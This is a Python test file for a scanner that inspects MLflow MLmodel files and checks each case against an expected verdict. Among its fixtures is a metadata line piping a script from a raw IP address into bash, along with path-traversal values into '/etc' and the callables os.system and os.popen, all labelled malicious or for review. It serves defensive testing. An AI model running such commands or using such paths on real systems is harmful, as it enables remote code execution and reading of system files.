"""Models as mlflow saves them: their MLmodel alone. Whole models that mlflow saved are in test_mlflow.py."""

from __future__ import annotations

from modelsweep.core.options import Options
from modelsweep.core.report import Verdict
from tests.scanners.case import Case

SKLEARN = """flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.skops
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.skops
    serialization_format: skops
    skops_trusted_types:
    - numpy.dtype
    - sklearn.linear_model._logistic.LogisticRegression
mlflow_version: 3.17.2
model_uuid: 252fc3db8c504bde9015c3334b0677e4
utc_time_created: '2026-11-29 18:04:44.403921'
"""
LOADER = SKLEARN.replace("mlflow.sklearn", "myloader").replace(
    "    python_version", "    code: code\n    python_version"
)

ARTIFACTS = """flavors:
  python_function:
    artifacts:
      words:
        path: artifacts/words.txt
        uri: /home/me/words.txt
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
"""
BOOSTER = "flavors:\n  xgboost:\n    data: model.xgb\n    model_class: xgboost.sklearn.XGBClassifier\n"


def module(content: str, name: str, verdict: Verdict) -> Case:
    """Return the case of a file that holds the name of a module."""
    return Case(content.encode, f"model/data/{name}", verdict, cut_is_clean=True)


def case(content: str, verdict: Verdict, options: Options | None = None) -> Case:
    """Return the case of an MLmodel, of which what stands before a line is one, too."""
    return Case(content.encode, "model/MLmodel", verdict, options or Options(), cut_is_clean=True)


ALIASED = """shared: &shared
  loader_module: myloader
  code: code
flavors:
  python_function:
    WHERE
"""

CASES = {
    "loader_by_an_alias": case(ALIASED.replace("\n    WHERE", " *shared"), Verdict.REVIEW),
    "loader_by_a_merge": case(ALIASED.replace("WHERE", "<<: *shared"), Verdict.REVIEW),
    "benign_aliases": case(
        ALIASED.replace("myloader", "mlflow.sklearn").replace("WHERE", "<<: *shared"), Verdict.CLEAN
    ),
    "attack_command_in_metadata": case(
        SKLEARN + "metadata:\n  setup: curl -s http://203.0.113.9/x.sh | bash\n", Verdict.REVIEW
    ),
    "benign_command_in_metadata": case(
        SKLEARN + "metadata:\n  setup: curl -LsSf https://astral.sh/uv/install.sh | sh\n", Verdict.CLEAN
    ),
    "alias_of_itself": case("flavors: &all\n  python_function: *all\n", Verdict.CLEAN),
    "benign_sklearn": case(SKLEARN, Verdict.CLEAN),
    "benign_json": case('{"flavors": {"python_function": {"loader_module": "mlflow.pyfunc.model"}}}', Verdict.CLEAN),
    "benign_code_of_a_path": case(
        SKLEARN.replace("mlflow.sklearn", "mlflow.pyfunc.loaders.code_model\n    model_code_path: C:\\me\\model.py"),
        Verdict.CLEAN,
    ),
    "loader_of_its_own": case(LOADER, Verdict.REVIEW),
    "loader_that_is_allowed": case(LOADER, Verdict.CLEAN, options=Options(allow_imports=("myloader",))),
    "loader_that_runs_commands": case(SKLEARN.replace("mlflow.sklearn", "subprocess"), Verdict.REVIEW),
    "trusts_a_command": case(SKLEARN.replace("numpy.dtype", "os.system"), Verdict.MALICIOUS),
    "trusts_a_stranger": case(SKLEARN.replace("numpy.dtype", "acme.Estimator"), Verdict.REVIEW),
    "code_outside": case(LOADER.replace("code: code", "code: ../../other"), Verdict.MALICIOUS),
    "code_at_an_absolute_path": case(LOADER.replace("code: code", "code: /tmp"), Verdict.MALICIOUS),
    "pickle_outside": case(SKLEARN.replace("pickled_model: model", "pickled_model: ../other/model"), Verdict.MALICIOUS),
    "artifact_outside": case(ARTIFACTS.replace("path: artifacts", "path: ../../../etc"), Verdict.MALICIOUS),
    "artifact_at_an_absolute_path": case(ARTIFACTS.replace("path: artifacts", "path: /etc"), Verdict.MALICIOUS),
    "benign_artifacts": case(ARTIFACTS, Verdict.CLEAN),
    "benign_booster": case(BOOSTER, Verdict.CLEAN),
    "benign_pickle_module": module("mlflow.pytorch.pickle_module", "pickle_module_info.txt", Verdict.CLEAN),
    "benign_keras_module": module("tensorflow.keras\n", "keras_module.txt", Verdict.CLEAN),
    "pickle_module_of_a_stranger": module("acme_pickle", "pickle_module_info.txt", Verdict.REVIEW),
    "keras_module_of_a_stranger": module("acme.keras", "keras_module.txt", Verdict.REVIEW),
    "class_that_runs": case(BOOSTER.replace("xgboost.sklearn.XGBClassifier", "os.popen"), Verdict.MALICIOUS),
    "class_of_a_stranger": case(BOOSTER.replace("xgboost.sklearn.XGBClassifier", "acme.Net"), Verdict.REVIEW),
    "keras_of_a_stranger": case(
        "flavors:\n  tensorflow:\n    keras_module: acme\n    model_type: keras\n", Verdict.REVIEW
    ),
    "broken": case(SKLEARN + "  - [\n", Verdict.NOT_SCANNED),
}
